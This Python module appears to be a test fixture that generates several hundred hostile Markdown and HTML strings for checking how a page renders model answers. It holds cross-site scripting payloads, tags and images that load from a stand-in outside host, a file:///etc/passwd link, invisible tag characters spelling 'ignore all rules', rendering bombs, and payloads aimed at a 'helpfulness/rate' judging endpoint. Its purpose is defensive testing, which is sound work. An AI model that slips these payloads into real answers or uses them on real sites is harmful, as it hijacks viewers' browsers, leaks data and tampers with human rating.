"""What a model could answer to do something to whoever looks at it: 500 and more texts, made of parts.

Each payload is put into each place where Markdown treats text differently. Nothing here is random: the same texts
every time, in the same order. Every text can be stored (no NUL, no lone surrogate); `UNSTORABLE` are those that cannot.
"""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "</code></pre></div><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<b onpointerover=alert(1) style=position:fixed;inset:0>x</b>",
    "<marquee onstart=alert(1)>x</marquee>",
)
HTMX = (
    f'<div hx-get="{ELSEWHERE}" hx-trigger="load">x</div>',
    '<button hx-post="/p/helpfulness/rate/" hx-trigger="load">x</button>',
    '<b data-hx-get="/" data-hx-trigger="load">x</b>',
    '<b hx-on:load="alert(1)" hx-on--load="alert(1)">x</b>',
    '<hx-partial hx-target="#bench">x</hx-partial>',
    '<template hx type="partial" hx-target="body"><b>x</b></template>',
    '<b sse-connect="/" ws-connect="/" hx-live="alert(1)">x</b>',
)
FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><image href="{ELSEWHERE}/x.png"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#http://elsewhere.example" xlink:href="javascript:alert(1)">x</maction>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<math><semantics><annotation-xml><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>",
)
MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<table><tr><td><svg><desc><table><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<plaintext>",
    "<base href='https://elsewhere.example/'>",
)
LOADING = (
    f'<link rel=stylesheet href="{ELSEWHERE}/x.css">',
    f'<link rel=prefetch href="{ELSEWHERE}/"><link rel=dns-prefetch href="//elsewhere.example">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f'<iframe src="{ELSEWHERE}"></iframe>',
    f'<object data="{ELSEWHERE}/x.swf"></object><embed src="{ELSEWHERE}/x.swf">',
    f'<form action="{ELSEWHERE}"><button>Send</button></form>',
    f"<style>@import url({ELSEWHERE}/x.css); body {{ background: url({ELSEWHERE}/x.png) }}</style>",
    f'<p style="background:url({ELSEWHERE}/x.png)">x</p>',
    f'<audio src="{ELSEWHERE}/x.mp3" autoplay></audio>',
    f'<img srcset="{ELSEWHERE}/x.png 1x">',
    f'<table background="{ELSEWHERE}/x.png"><tr><td>x</td></tr></table>',
    f"![a]({ELSEWHERE}/x.png)",
    f'![a]({ELSEWHERE}/x.png "t")',
    f"![a][r]\n\n[r]: {ELSEWHERE}/x.png",
    f"[![a]({ELSEWHERE}/x.png)]({ELSEWHERE})",
    f"![![a]({ELSEWHERE}/1.png)]({ELSEWHERE}/2.png)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![a](//elsewhere.example/x.png)",
)
LINKS = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    f"<{ELSEWHERE}/auto>",
    "<mailto:x@elsewhere.example>",
    f'[a]({ELSEWHERE} "title\\" onclick=alert(1) x=\\"")',
    '[a](https://elsewhere.example/"onmouseover=alert(1)//)',
    "[a][j]\n\n[j]: javascript:alert(1)",
    "[a]: data:text/html,x\n[a]",
    "[https://bank.example](https://elsewhere.example)",
    "[a](https://аpple.com)",
    "[x](#judge) [y](/p/helpfulness/rate/)",
    "[a](x)[b](y)![c](z)[d]()",
)
HIDDEN = (
    "abc\u202edcba",
    "\u2066\u2067\u2068abc\u2069",
    "\u061cabc\u200e\u200f",
    "pass\u200bword\u200c\u200d\u2060\ufeff",
    "a\u00adb\u034fc\u115fd\u3164e\uffa0f",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a" + "".join(chr(0xFE00 + n) for n in range(16)),
    "a" + "".join(chr(0xE0100 + n) for n in range(0, 240, 16)),
    "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f \x9b31m",
    "a\rb\r\nc",
    "&#x202E;abc &#8203; &#xFEFF; &ZeroWidthSpace; &shy; &#0; &#xD800;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "\ufdd0202E\ufdd1 \ufdd0 \ufdd1 \uffff \U0001fffe",
    "👩\u200d💻 ❤\ufe0f 1\ufe0f\u20e3 \u200d\u200d a\u200db",
    "\ufff9x\ufffay\ufffb \U000e0001\U000e007f",
    "Z\u0351\u036b\u0343\u036a\u0302\u0345" * 20,
)
MATHS = (
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "\\(\\style{position:fixed}{x}\\)",
    "\\[\\unicode{x202e} \\class{btn}{x} \\cssId{judge}{x}\\]",
    "$\\def\\a{\\a\\a}\\a$",
    "$$\\newcommand{\\b}{xx}\\newcommand{\\c}{\\b\\b}\\c\\c$$",
    "$\\hspace{-999em}\\color{white}{x}\\kern9999em$",
    f"$\\includegraphics{{{ELSEWHERE}/x.png}}$",
    "$\\operatorname{<img src=x onerror=alert(1)>}$",
    "$&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;$",
    "$\\begin{array}{<img src=x onerror=alert(1)>}a\\end{array}$",
    "$\\mathbb{<}\\mathrm{&lt;b&gt;}\\phantom{hidden}$",
    "$a\u202eb$ \\(\u200b\\)",
)
SHAPES = (
    "Sent.\n===\n\nNot sent\n---",
    "# Compare two responses\n\n###### Response B\n\n## Response A",
    "````\n```html\n<script>alert(1)</script>\n```\n````",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1) class=btn\nx = '<b>'\n```",
    "~~~html\n<img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "| <b onclick=alert(1)> | `|` |\n|:-:|--:|\n| ![x](y) | <script> |",
    "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] b",
    "999999999. a\n1234567890. b",
    "> > > > > > > > deep\n>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>> deeper",
    "* * *\n_ _ _\n- - -",
    "x" * 2000,
    "`" * 500 + "x",
    "שלום <b onclick=alert(1)>עולם</b> [قابل](javascript:alert(1))",
    "<div class='btn pri' id='judge' name='preference'>Send, next</div>",
    "{{ 7|add:7 }} {% csrf_token %} ${7*7} #{7*7} <%= 7*7 %>",
)
BOMBS = (
    "[a](" * 3000,
    "![[" * 2000,
    "> " * 2000 + "x",
    "- " * 2000 + "x",
    "*a _" * 3000,
    "**" * 8000 + "x",
    "`a" * 3000,
    "[" * 5000 + "]" * 5000,
    "<" * 8000,
    "&" * 8000,
    "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + "|x\n" * 200,
    "$" + "{" * 1500 + "}" * 1500 + "$",
    "$x$ " * 800,
    "\\(" * 4000,
    "\\[\n" * 2000,
    "[a]: /x\n" * 2000 + "[a]" * 2000,
    "[a]: " + "x" * 4000 + "\n\n" + "[a]" * 500,
    "```c\n" + "/*" * 5000 + "\n```",
    "\u202e" * 4000,
    "x\n" * 4000,
)

WAYS = (
    "{}",
    "Some words before, *and {} within*.",
    "- a list\n  - {}\n",
    "> {}\n",
    "# {}\n",
    "[{}](https://elsewhere.example/{})",
    "| a | b |\n|---|---|\n| {} | b |\n",
    "```html\n{}\n```\n",
    "`{}`",
    "$\\text{{{}}}$",
)
SPREAD = (*SCRIPTS, *HTMX, *FOREIGN, *MUTATING, *LOADING)
ONCE = (*LINKS, *HIDDEN, *MATHS, *SHAPES, *BOMBS)

UNSTORABLE = ("a\x00b", "a\ud800b", "\udc80\udfff", "$\x00$", "`\ud83d`")


def hostile_texts() -> list[str]:
    """All that can be stored, each different."""
    spread = [way.replace("{}", payload).replace("{{", "{").replace("}}", "}") for payload in SPREAD for way in WAYS]
    twice = [way.replace("{}", payload) for payload in (*LINKS, *HIDDEN, *MATHS) for way in WAYS[1:4]]
    return list(dict.fromkeys([*spread, *twice, *ONCE]))
